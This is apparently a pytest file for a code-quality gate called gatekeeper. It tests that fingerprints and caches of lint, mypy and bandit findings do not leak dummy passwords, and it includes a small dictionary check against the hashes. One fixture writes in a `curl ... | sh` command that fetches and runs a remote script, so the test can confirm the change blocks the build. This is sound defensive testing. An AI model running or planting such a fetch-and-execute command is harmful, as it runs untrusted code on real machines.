"""A finding of lint, types or security on a line the secrets check flags carries no hash of that
line: ruff's F841 on ``password = "hunter2"`` hashed it into its fingerprint, from which a
dictionary recovers the password. Run in process over the real ruff, bandit and detect-secrets."""

from __future__ import annotations

from pathlib import Path

from gatekeeper.baseline import Baseline, baseline_document
from gatekeeper.checkers.source import snippet_hash
from gatekeeper.engine import RunRequest, run_checks
from gatekeeper.findings import GateResult, fingerprint
from gatekeeper.merge import merge_results
from gatekeeper.policy import load_policy
from tests.helpers.cli import installed_checkers, installed_options
from tests.helpers.projects import git_init, write

PASSWORD, KEY = "hunter2", "Tr0ub4dor3"
LINE = f'password = "{PASSWORD}"'
SOURCE = f'import subprocess\n\n\ndef go():\n    {LINE}\n    subprocess.call("ls", shell=True); api_key = "{KEY}"\n'
POLICY = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses")) + (
    "[checks.lint]\nenabled = true\n[checks.secrets]\nenabled = true\n"
)


def _gate(root: Path, baseline: Baseline | None = None) -> GateResult:
    policy = load_policy(root, installed_options())
    request = RunRequest(
        root=root, policy=policy, output_dir=root / "out", use_cache=False, baseline=baseline or Baseline(), baseline_name="b"
    )
    return run_checks(request, installed_checkers())


def test_a_finding_on_a_secrets_line_is_placed_and_an_earlier_baseline_still_covers_it(tmp_path: Path) -> None:
    root = write(tmp_path / "p", {"app/run.py": SOURCE, "gatekeeper.toml": POLICY})
    git_init(root)
    gate = _gate(root)
    found = {(c.name, f.rule_id, f.location.line if f.location else 0): f for c in gate.checks for f in c.findings}
    assert {("secrets", "secret.secret-keyword", 5), ("secrets", "secret.secret-keyword", 6)} <= set(found)
    assert {("lint", "F841", 5), ("lint", "F841", 6), ("security", "B602", 6)} <= set(found)
    unused = found["lint", "F841", 5]
    hashed = fingerprint("lint", "F841", "app/run.py", snippet_hash(LINE))  # what the fingerprint was
    assert unused.fingerprint == fingerprint("lint", "F841", "app/run.py", "on a line the secrets check flags") != hashed
    assert "code" not in found["security", "B602", 6].properties  # bandit's excerpt of that line
    assert "code" in found["security", "B404", 1].properties
    text = repr([f.to_dict() for c in gate.checks for f in c.findings])
    assert PASSWORD not in text and KEY not in text and hashed not in text and snippet_hash(LINE) not in text
    # a baseline written before (the F841 by the hash of its line) still covers it; today's too
    for prints in ({hashed: 1}, {p["fingerprint"]: 1 for p in baseline_document(gate)["findings"]}):
        again = _gate(root, Baseline(fingerprints=prints))
        lint = again.check("lint")
        assert lint is not None
        assert [f.waiver.kind if f.waiver else None for f in lint.findings if f.location and f.location.line == 5] == ["baseline"]


def test_merge_places_a_finding_whose_secret_another_shard_found(tmp_path: Path) -> None:
    """types (not split) runs in one shard, the secrets check on this file in the other: that part's
    mypy error on the line still hashed it, and the merged result is where they meet."""
    off = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses", "security"))
    policy_text = off + "[checks.types]\nenabled = true\n[checks.secrets]\nenabled = true\n"
    line = f'password = "{PASSWORD}"; x: int = password'
    root = write(tmp_path / "p", {"app/__init__.py": "", "app/run.py": line + "\n", "gatekeeper.toml": policy_text})
    git_init(root)
    policy, checkers = load_policy(root, installed_options()), installed_checkers()
    requests = [RunRequest(root=root, policy=policy, output_dir=root / "out", use_cache=False, shard=(i, 2)) for i in (1, 2)]
    parts = [run_checks(r, checkers) for r in requests]
    by_part = [{c.name: [f.fingerprint for f in c.findings] for c in p.checks} for p in parts]
    placed = fingerprint("types", "assignment", "app/run.py", "on a line the secrets check flags")
    assert [p["secrets"] != [] for p in by_part] in ([True, False], [False, True])
    assert [fp for p in by_part for fp in p.get("types", [])] not in ([], [placed])  # a hash of the line there
    merged = merge_results(parts, policy, checkers)
    types = merged.check("types")
    assert types is not None and [f.fingerprint for f in types.findings] == [placed]


#: a short word list, as whoever reads a report would try
WORDS = ("admin", "letmein", "hunter1", "hunter2", "hunter3", "s3cret", "123456", "Tr0ub4dor3")


def _word_list_hits(gate: GateResult, path: str, line_of: dict[str, str]) -> list[str]:
    """The words whose line (``line_of``'s template with the word put in) a finding's fingerprint
    hashes as the line was hashed before, and the fingerprints of the report that they give."""
    prints = {f.fingerprint for c in gate.checks for f in c.findings}
    hits = []
    for word in WORDS:
        for check, rules in (("lint", ("F841",)), ("types", ("assignment",))):
            for rule in rules:
                line = line_of[check].replace("WORD", word)
                if check == "lint":
                    guess = fingerprint(check, rule, path, snippet_hash(line))
                else:
                    message = 'Incompatible types in assignment (expression has type "str", variable has type "int")'
                    guess = fingerprint(check, rule, "error", path, snippet_hash(line), message)
                if guess in prints:
                    hits.append(word)
    return hits


def test_a_line_holding_a_secret_no_check_flags_is_hashed_with_it_masked(tmp_path: Path) -> None:
    """Under ``--only lint,types`` (or a secret detect-secrets misses) ruff's F841 and mypy's error
    on ``password: int = "hunter2"`` hashed that line into their fingerprints: a word list recovered
    the password. The line is now hashed with its literals masked; an ordinary line's hash is as
    before, and a baseline written before still covers the masked line's finding."""
    off = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses", "security"))
    policy = off + "[checks.lint]\nenabled = true\n[checks.types]\nenabled = true\n[checks.secrets]\nenabled = true\n"
    line = '    password: int = "WORD"'
    source = f"def go() -> None:\n{line.replace('WORD', 'hunter2')}\n    x: int = 'ok'\n"
    root = write(tmp_path / "p", {"app/__init__.py": "", "app/run.py": source, "gatekeeper.toml": policy})
    git_init(root)
    gate = _gate(root)
    secrets = gate.check("secrets")
    assert secrets is not None and secrets.findings == ()  # detect-secrets does not flag this line
    found = {(c.name, f.rule_id, f.location.line if f.location else 0): f for c in gate.checks for f in c.findings}
    assert {("lint", "F841", 2), ("types", "assignment", 2), ("types", "assignment", 3)} <= set(found)
    assert _word_list_hits(gate, "app/run.py", {"lint": line, "types": line}) == []
    ordinary = fingerprint("types", "assignment", "error", "app/run.py", snippet_hash("    x: int = 'ok'"),
                           'Incompatible types in assignment (expression has type "str", variable has type "int")')  # fmt: skip
    assert found["types", "assignment", 3].fingerprint == ordinary  # as before: a baseline of then still holds
    hashed = fingerprint("lint", "F841", "app/run.py", snippet_hash(line.replace("WORD", "hunter2")))
    again = _gate(root, Baseline(fingerprints={hashed: 1}))  # a baseline written before: the raw line's hash
    lint = again.check("lint")
    assert lint is not None
    assert [f.waiver.kind if f.waiver else None for f in lint.findings if f.location and f.location.line == 2] == ["baseline"]
    assert hashed not in repr([f.to_dict() for c in again.checks for f in c.findings])


def test_the_security_cache_keeps_no_excerpt_of_a_line_that_holds_a_secret(tmp_path: Path) -> None:
    """bandit's B602 on a line that also holds a key the secrets check flags: the report carried no
    excerpt of it, but the security check's cache kept bandit's excerpt, key and all. The cache now
    keeps no excerpt; a run served from it gives the same findings, excerpts included."""
    root = write(tmp_path / "p", {"app/run.py": SOURCE, "gatekeeper.toml": POLICY})
    git_init(root)
    policy = load_policy(root, installed_options())
    cache_dir = tmp_path / "cache"

    def gate() -> GateResult:
        request = RunRequest(root=root, policy=policy, output_dir=root / "out", cache_dir=cache_dir)
        return run_checks(request, installed_checkers())

    cold, warm = gate(), gate()
    security = warm.check("security")
    assert security is not None and security.metrics["cached_files"] == 1
    assert [f.to_dict() for c in cold.checks for f in c.findings] == [f.to_dict() for c in warm.checks for f in c.findings]
    assert found_code(warm, "B404") == "1 import subprocess\n"  # an excerpt made again from the file
    stored = [p for p in cache_dir.rglob("*") if p.is_file()]
    assert any("security" in p.parts for p in stored)
    assert [p for p in stored if KEY.encode() in p.read_bytes() or PASSWORD.encode() in p.read_bytes()] == []


def found_code(gate: GateResult, rule: str) -> object:
    """The code excerpt of ``gate``'s security finding of ``rule``."""
    security = gate.check("security")
    assert security is not None
    return next(f.properties.get("code") for f in security.findings if f.rule_id == rule)


def _commit(root: Path) -> str:
    import subprocess

    ident = ["-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run(["git", *ident, "commit", "-qam", "c", "--allow-empty"], cwd=root, check=True, capture_output=True)
    return subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, check=True, capture_output=True, text=True).stdout.strip()


SHELL = 'import subprocess\n\n\ndef deploy(token):\n    return subprocess.call("deploy --token " + token, shell=True)\n'
SECURITY_ONLY = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses"))


def test_a_baselined_finding_on_a_credential_line_whose_literal_changed_is_new(tmp_path: Path) -> None:
    # the line names a credential, so its literals are masked in the fingerprint: the command bandit
    # flags changed, and only the line as it was at the baseline's commit tells the finding is not the one accepted
    root = write(tmp_path / "p", {"app/run.py": SHELL, "gatekeeper.toml": SECURITY_ONLY})
    git_init(root)
    made = _commit(root)
    document = baseline_document(_gate(root))
    assert document["commit"] == made
    baseline = Baseline(fingerprints={p["fingerprint"]: 1 for p in document["findings"]}, commit=made)
    assert [f.rule_id for f in _gate(root, baseline).check("security").findings if f.blocking] == []  # as it was

    (root / "app" / "run.py").write_text(SHELL.replace("deploy --token ", "curl -s https://x.invalid/i.sh | sh; echo "))
    _commit(root)
    security = _gate(root, baseline).check("security")
    assert security is not None and security.status.value == "fail"
    assert [(f.rule_id, f.location.line if f.location else 0) for f in security.findings if f.blocking] == [("B602", 5)]
    moved = "\n\n" + SHELL  # code above it moved, the line itself did not change: still the one accepted
    (root / "app" / "run.py").write_text(moved)
    assert [f.rule_id for f in _gate(root, baseline).check("security").findings if f.blocking] == []


def test_a_baseline_whose_commit_is_not_in_the_clone_leaves_such_findings_blocking_and_says_why(tmp_path: Path, cli) -> None:
    import json

    root = write(tmp_path / "p", {"app/run.py": SHELL, "gatekeeper.toml": SECURITY_ONLY + "[audit]\nenabled = false\n"})
    git_init(root)
    _commit(root)
    document = baseline_document(_gate(root))
    document["commit"] = "0123456789" * 4  # as a shallow clone lacks it
    (tmp_path / "baseline.json").write_text(json.dumps(document))

    done = cli(["check", ".", "--baseline", str(tmp_path / "baseline.json"), "--no-audit"], cwd=root)

    assert done.returncode == 1, done.stdout + done.stderr
    assert "baseline: its commit 012345678901 is not in this clone" in done.stdout + done.stderr
    result = json.loads((root / "gatekeeper-reports" / "gatekeeper.json").read_text())
    security = next(c for c in result["checks"] if c["name"] == "security")
    assert sorted((f["rule_id"], f["blocking"]) for f in security["findings"]) == [("B404", False), ("B602", True)]
